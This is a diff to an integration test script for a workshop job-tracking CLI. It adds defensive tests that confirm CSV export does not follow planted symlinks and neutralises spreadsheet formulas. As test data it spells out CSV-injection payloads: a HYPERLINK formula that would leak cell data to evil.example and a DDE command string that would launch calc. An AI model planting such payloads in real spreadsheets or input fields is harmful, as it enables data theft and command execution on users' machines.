@@ -4,7 +4,9 @@
 # not reachable), the station refusing a pearl, the e-stop latch and its
 # reset, a G-code file streamed, and events from watch; the job commands:
 # a refusal quoting its rule, bad input, a job through its manual steps,
-# the list, the history, and the CSV export read back by a CSV reader.
+# the list, the history, and the CSV export read back by a CSV reader,
+# written through a new temporary (a planted link is not followed) and
+# with formulas neutralised.
 set -u
 bin=${ATELIER_BIN:-build/asan/bin}
 pass=0
@@ -117,6 +119,67 @@ PY
 ctl export --output /nonexistent/folder/journal.csv >/dev/null 2>&1
 [ $? -eq 5 ] && [ ! -e /nonexistent/folder/journal.csv ] && ok "export to an unwritable place: exit 5" ||
 	ko "export unwritable"
+# Issue 19: the export file cannot be aimed at another file through a link
+# planted where it writes, and is written whole or not at all.
+victim="$dir/victim.txt"
+printf 'precious\n' >"$victim"
+# The old temporary was FILE.tmp.<pid>; exec keeps the shell's pid.
+sh -c 'ln -s "$1" "$2.tmp.$$" && exec "$3/atelierctl" --socket "$4" export --output "$2"' \
+	sh "$victim" "$dir/out1.csv" "$bin" "$dir/atelier.sock"
+rc=$?
+[ $rc -eq 0 ] && [ "$(cat "$victim")" = precious ] && [ -f "$dir/out1.csv" ] && [ ! -L "$dir/out1.csv" ] &&
+	head -1 "$dir/out1.csv" | grep -q '^job,serial,' &&
+	ok "export: a link planted at the temporary name is not followed" ||
+	ko "export: planted link at the temporary name" "rc $rc, victim: $(cat "$victim" | head -2)"
+ln -s "$victim" "$dir/out2.csv"
+ctl export --output "$dir/out2.csv" && [ "$(cat "$victim")" = precious ] && [ ! -L "$dir/out2.csv" ] &&
+	head -1 "$dir/out2.csv" | grep -q '^job,serial,' && ok "export: a link at the target is replaced, not followed" ||
+	ko "export: link at the target"
+(umask 027 && ctl export --output "$dir/out3.csv") && [ "$(stat -c %a "$dir/out3.csv")" = 640 ] &&
+	(umask 022 && ctl export --output "$dir/out3.csv") && [ "$(stat -c %a "$dir/out3.csv")" = 644 ] &&
+	ok "export: mode 0644 under the umask" || ko "export mode" "$(stat -c %a "$dir/out3.csv" 2>&1)"
+mkdir "$dir/out4.csv"
+ctl export --output "$dir/out4.csv" >/dev/null 2>&1
+rc=$?
+left=$(ls -A "$dir" | grep -c '^\.out4')
+[ $rc -eq 5 ] && [ "$left" -eq 0 ] && [ -z "$(ls -A "$dir/out4.csv")" ] &&
+	ok "export that cannot be renamed into place: exit 5, no file left" || ko "failed export" "rc $rc, left $left"
+"$bin/atelierctl" --socket "$dir/nowhere.sock" export --output "$dir/out5.csv" >/dev/null 2>&1
+rc=$?
+[ $rc -eq 4 ] && [ ! -e "$dir/out5.csv" ] && [ "$(ls -A "$dir" | grep -c '^\.out5')" -eq 0 ] &&
+	ok "export without a daemon: exit 4, no file" || ko "export without a daemon" "rc $rc"
+
+# A spreadsheet must not run a note or a name as a formula (OWASP CSV
+# injection): such a text cell is written after a quote mark, still
+# quoted as RFC 4180 says; Atelier's own numbers are left as numbers.
+ctl step done "$job" 2 --note '=HYPERLINK("http://evil.example/?"&A1,"click")' --operator ana >/dev/null ||
+	ko "step done with a formula note"
+out=$(ctl job create --serial CSV-1 --type ring --metal yellow_gold --service shining \
+	--operator "+cmd|' /C calc'!A0")
+job2=$(echo "$out" | sed -n 's/^job \([0-9]*\): planned$/\1/p')
+ctl job start "$job2" >/dev/null
+ctl step done "$job2" 1 --note '-2+3' >/dev/null
+ctl step done "$job2" 2 --note "$(printf '\tat the bench')" >/dev/null
+ctl export --output "$dir/formulas.csv" && /usr/bin/python3 - "$dir/formulas.csv" "$job" "$job2" <<'PY' &&
+import csv, sys
+text = open(sys.argv[1], newline="").read()
+assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text, text
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+sh = {r["seq"]: r for r in rows if r["job"] == sys.argv[2]}
+assert sh["2"]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")', sh["2"]
+assert sh["1"]["note"] == 'cleaned, "as new"', sh["1"]
+mine = {r["seq"]: r for r in rows if r["job"] == sys.argv[3]}
+assert mine["1"]["operator"] == "'+cmd|' /C calc'!A0", mine["1"]
+assert mine["1"]["note"] == "'-2+3", mine["1"]
+assert mine["2"]["note"] == "'\tat the bench", mine["2"]
+for r in rows:
+    for k, v in r.items():
+        assert not v or v[0] not in "=+-@\t\r", (k, v)
+    assert r["job"].isdigit() and r["seq"].isdigit() and r["attempts"].isdigit(), r
+    assert r["price_usd"] == "0.00", r
+PY
+	ok "CSV export: formulas neutralised, read back by a CSV reader" || ko "CSV formulas"
+ctl job abort "$job2" >/dev/null
 ctl --json job show "$job" | /usr/bin/python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit(0 if d["steps"][0]["note"]=="cleaned, \"as new\"" else 1)' &&
 	ok "job show --json" || ko "job show --json"
 ctl job abort "$job" --why "client collected it" | grep -q "^job $job: aborted" && ok "job abort" ||
